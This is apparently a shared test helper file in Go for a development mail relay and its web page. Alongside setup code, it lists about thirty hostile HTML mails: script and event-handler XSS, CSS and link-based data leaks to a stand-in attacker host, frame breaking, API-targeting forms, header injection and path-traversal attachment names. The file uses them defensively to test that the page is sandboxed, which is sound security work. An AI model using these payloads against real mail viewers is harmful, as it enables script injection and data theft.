// What the tests of this package share: a relay, clients that talk to it, and the mails that attack its page.
package devrelay

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/smtprelay/smtprelay"
)

// testConfig is the configuration of the tests: loopback, any port, the program's defaults.
func testConfig() Config {
	return Config{
		Listen: "127.0.0.1:0", HTTP: "127.0.0.1:0", Name: "relay.test", TLS: "none",
		MaxConns: 10, MaxMessages: 100, MaxRecipients: 1000, MaxSize: 30 << 20, Keep: 10_000, KeepBytes: 256 << 20,
	}
}

// startRelay starts a relay that is closed when the test ends.
func startRelay(t testing.TB, change func(*Config)) *Relay {
	t.Helper()
	cfg := testConfig()
	if change != nil {
		change(&cfg)
	}
	if err := cfg.Check(); err != nil {
		t.Fatal(err)
	}
	r, err := Start(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(r.Close)
	return r
}

// raw is a client that says what it is told to.
type raw struct {
	t testing.TB
	net.Conn
	br *bufio.Reader
}

// dialRaw connects and reads the greeting.
func dialRaw(t testing.TB, r *Relay) *raw {
	t.Helper()
	c, err := net.Dial("tcp", r.smtp.Addr())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	raw := &raw{t: t, Conn: c, br: bufio.NewReader(c)}
	raw.reply()
	return raw
}

// reply reads a reply and returns its last line, or "" if the connection has ended.
func (c *raw) reply() string {
	for {
		line, err := c.br.ReadString('\n')
		if err != nil {
			return ""
		}
		if len(line) < 4 || line[3] != '-' {
			return strings.TrimRight(line, "\r\n")
		}
	}
}

// say says lines in one write, and returns the last reply of as many.
func (c *raw) say(lines ...string) (reply string) {
	c.t.Helper()
	if _, err := io.WriteString(c, strings.Join(lines, "\r\n")+"\r\n"); err != nil {
		c.t.Fatal(err)
	}
	for range lines {
		reply = c.reply()
	}
	return reply
}

var queued = regexp.MustCompile(`queued as (\S+)`)

// deliver sends a message through the relay and returns its queue ID.
func deliver(t testing.TB, r *Relay, text string) string {
	t.Helper()
	c := dialRaw(t, r)
	defer c.Close()
	return c.deliver(text)
}

func (c *raw) deliver(text string) string {
	c.t.Helper()
	c.say("EHLO client.test")
	c.say("MAIL FROM:<shop@example.com>", "RCPT TO:<ann@example.org>", "DATA")
	io.WriteString(c, strings.ReplaceAll(text, "\n.", "\n..")+"\r\n.\r\n")
	reply := c.reply()
	m := queued.FindStringSubmatch(reply)
	if m == nil {
		c.t.Fatalf("the message was not taken: %q", reply)
	}
	return m[1]
}

// client is a client of the library.
func client(t testing.TB, r *Relay) *smtprelay.Client {
	t.Helper()
	cfg, err := smtprelay.ParseURL(r.SMTPURL())
	if err != nil {
		t.Fatal(err)
	}
	c, err := smtprelay.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

// web is the address of the page, without a link or a token.
func web(r *Relay) string { return "http://" + r.webAddr.String() }

// ask sends a request to the API and reads its answer into out. It returns the status and the body.
func ask(t testing.TB, r *Relay, method, path string, in, out any) (int, string) {
	t.Helper()
	var body io.Reader
	if in != nil {
		text, err := json.Marshal(in)
		if err != nil {
			t.Fatal(err)
		}
		body = bytes.NewReader(text)
	}
	req, err := http.NewRequestWithContext(t.Context(), method, web(r)+path, body)
	if err != nil {
		t.Fatal(err)
	}
	if in != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	text, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if out != nil && res.StatusCode < 300 {
		if err := json.Unmarshal(text, out); err != nil {
			t.Fatalf("%s %s: %v in %s", method, path, err, text)
		}
	}
	return res.StatusCode, string(text)
}

// An attack is a mail that wants out of its frame.
type attack struct {
	name string
	html string
	raw  string // the whole message, where html does not say it
}

func (a *attack) mail() string {
	if a.raw != "" {
		return a.raw
	}
	return "From: mallory@example.net\r\nSubject: attack\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + a.html + "\r\n"
}

// attacks are mails that call the attacker at addr, or do something to the page, if they can.
func attacks(addr string) []attack {
	evil := "http://" + addr
	q := url.QueryEscape(evil)
	inPart := func(header, body string) string {
		return "From: mallory@example.net\r\nSubject: attack\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>hello\r\n--b\r\n" + header + "\r\n\r\n" + body + "\r\n--b--\r\n"
	}
	list := []attack{
		{name: "a script", html: `<script>parent.untouched="script"; top.document.title="owned"; fetch("EVIL/script")</script>`},
		{name: "a script from elsewhere", html: `<script src="EVIL/s.js"></script><script type=module src="EVIL/m.js"></script>`},
		{name: "event handlers", html: `<img src=x onerror="new Image().src='EVIL/onerror'"><body onload="fetch('EVIL/onload')"><svg onload="fetch('EVIL/svg')"><details open ontoggle="fetch('EVIL/toggle')">x</details><input autofocus onfocus="fetch('EVIL/focus')">`},
		{name: "a javascript link", html: `<a href="javascript:fetch('EVIL/js')" style="display:block;font-size:80px">click</a>`},
		{name: "a form", html: `<form action="EVIL/form" method=post><input name=a value=b><button style="display:block;width:600px;height:200px">click</button></form>`},
		{name: "a form for the API", html: `<form action="/api/v1/faults" method=post enctype="text/plain"><input name='{"text":"dot=drop","x":"' value='"}'><button style="display:block;width:600px;height:200px">click</button></form>`},
		{name: "remote images", html: `<img src="EVIL/i.gif"><img srcset="EVIL/set.gif 2x"><picture><source srcset="EVIL/pic"><img src=x></picture><video poster="EVIL/poster" src="EVIL/video" autoplay></video><audio src="EVIL/audio" autoplay></audio><input type=image src="EVIL/input"><table background="EVIL/table"><td>x</table><body background="EVIL/body">`},
		{name: "meta refresh", html: `<meta http-equiv="refresh" content="0;url=EVIL/refresh">`},
		{name: "meta refresh in noscript", html: `<noscript><meta http-equiv="refresh" content="0;url=EVIL/refresh"></noscript>`},
		{name: "a policy of its own", html: `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri EVIL/report"><img src="EVIL/x">`},
		{name: "breaking the frame", html: `<script>top.location="EVIL/top"</script><a href="EVIL/top" target=_top style="display:block;font-size:80px">click</a>`},
		{name: "a new window", html: `<a href="EVIL/blank" target=_blank style="display:block;font-size:80px">click</a>`},
		{name: "a link in the frame", html: `<a href="EVIL/self" ping="EVIL/ping" style="display:block;font-size:80px">click</a>`},
		{name: "a base", html: `<base href="EVIL/"><img src="relative.gif"><a href="x" style="display:block;font-size:80px">click</a>`},
		{name: "an overlay", html: `<div style="position:fixed;inset:-2000px;z-index:2147483647;background:red"><a href="EVIL/overlay" style="position:fixed;inset:0">x</a></div>`},
		{name: "styles from elsewhere", html: `<style>@import "EVIL/import.css"; @import url(EVIL/import2.css); @font-face { font-family: f; src: url(EVIL/font) } p { font-family: f; background: url(EVIL/bg); cursor: url(EVIL/cursor), auto; list-style-image: url(EVIL/list) } input[value^=a] { background: url(EVIL/leak) }</style><p>x</p><input value=a><div style="background:image-set('EVIL/set' 1x);border-image:url(EVIL/border) 1">x</div>`},
		{name: "a stylesheet link", html: `<link rel=stylesheet href="EVIL/l.css"><link rel=icon href="EVIL/icon"><link rel=manifest href="EVIL/manifest">`},
		{name: "links that open connections", html: `<link rel=preconnect href="EVIL"><link rel=dns-prefetch href="//leak.example"><link rel=prefetch href="EVIL/prefetch"><link rel=preload as=image href="EVIL/preload"><link rel=modulepreload href="EVIL/mp"><link rel=prerender href="EVIL/prerender">`},
		{name: "links hidden in a style", html: `<svg><style><b><link rel=preconnect href="EVIL"><img src="EVIL/x"></style></svg>`},
		{name: "links hidden in a comment", html: `<<!-- x -->link rel=preconnect href="EVIL"><!--><link rel=preconnect href="EVIL">--><<base>link rel=preconnect href="EVIL">`},
		{name: "links hidden in a title", html: `<svg><title><link rel=preconnect href="EVIL"></title></svg><noscript><link rel=preconnect href="EVIL"></noscript><textarea></textarea><link rel=preconnect href="EVIL">`},
		{name: "links hidden in CDATA and templates", html: `<svg><![CDATA[><link rel=preconnect href="EVIL">]]></svg><template shadowrootmode=open><link rel=stylesheet href="EVIL/shadow"><link rel=preconnect href="EVIL"></template><math><mtext><link rel=preconnect href="EVIL">`},
		{name: "SVG that runs", html: `<svg xmlns="http://www.w3.org/2000/svg"><script>parent.untouched="svg"</script><use href="EVIL/use.svg#x"/><image href="EVIL/image"/><foreignObject><iframe src="EVIL/frame"></iframe></foreignObject><animate onbegin="fetch('EVIL/begin')" attributeName=x dur=1s /></svg>`},
		{name: "a link that an animation sets", html: `<svg width=600 height=200><a><rect width=600 height=200 /><animate attributeName="href" values="EVIL/animated" dur="1s" repeatCount="indefinite"/><set attributeName="xlink:href" to="EVIL/set"/></a></svg>`},
		{name: "SVG as an image", html: `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3Efetch('` + q + `')%3C/script%3E%3Cimage href='` + q + `/image'/%3E%3C/svg%3E">`},
		{name: "frames and plug-ins", html: `<iframe src="EVIL/iframe"></iframe><iframe srcdoc="<img src='EVIL/srcdoc'>"></iframe><object data="EVIL/object"></object><embed src="EVIL/embed"><frameset><frame src="EVIL/frame"></frameset><iframe src="/"></iframe><portal src="EVIL/portal"></portal>`},
		{name: "the API as an image", html: `<img src="/api/v1/links"><img src="/api/v1/messages"><img src="/login?link=x">`},
		{name: "script in the subject", raw: "From: \"<img src=EVIL/from onerror=alert(1)>\" <m@example.net>\r\nSubject: <img src=\"EVIL/subject\" onerror=\"window.untouched='subject'\"><script>window.untouched='s'</script>\r\n\r\n<img src=EVIL/text>\r\n"},
		{name: "an attachment of HTML", raw: inPart("Content-Type: text/html; name=\"a.html\"\r\nContent-Disposition: attachment; filename=\"<img src=EVIL onerror=alert(1)>.html\"", `<script>fetch("EVIL/attached")</script>`)},
		{name: "a header in the name of an attachment", raw: inPart("Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''a%0d%0aContent-Type:%20text/html%0d%0aX-Evil:%201%0d%0a%0d%0a%3Cscript%3E.pdf", "x")},
		{name: "a path and a turned name of an attachment", raw: inPart("Content-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''..%2F..%2Fetc%2Fx%E2%80%AEfdp.exe%00.pdf", "x")},
	}
	for i := range list {
		list[i].html = strings.ReplaceAll(list[i].html, "EVIL", evil)
		list[i].raw = strings.ReplaceAll(list[i].raw, "EVIL", evil)
	}
	return list
}
